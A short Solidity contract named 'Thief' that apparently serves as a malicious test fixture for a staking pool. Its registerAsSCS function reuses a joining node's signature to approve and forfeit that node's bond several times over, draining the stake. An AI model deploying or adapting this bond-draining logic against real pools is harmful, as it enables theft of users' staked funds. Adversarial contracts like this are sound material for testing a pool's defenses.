pragma solidity 0.4.26;
pragma experimental ABIEncoderV2;

import "./ChainBase.sol";

/// Takes as much of the bond of whoever joins as its signature gives.
contract Thief is ChainBase {
    constructor(address pool, address vnodes) ChainBase(pool, vnodes, 1, 11, 1000, 40, 1000, 10) public {}

    function registerAsSCS(address, uint8 v, bytes32 r, bytes32 s) public returns (bool) {
        (, uint bond,,,) = scsPool().scsList(msg.sender);
        take(bond, v, r, s);
        for (uint time = 0; time < 3; time++) {
            take(penaltyBond, v, r, s);
        }
        return true;
    }

    function take(uint amount, uint8 v, bytes32 r, bytes32 s) private {
        scsPool().approveBond(msg.sender, amount, v, r, s);
        scsPool().approveBond(msg.sender, amount, v, r, s);
        scsPool().forfeitBond(msg.sender, amount);
        scsPool().forfeitBond(msg.sender, amount);
    }
}
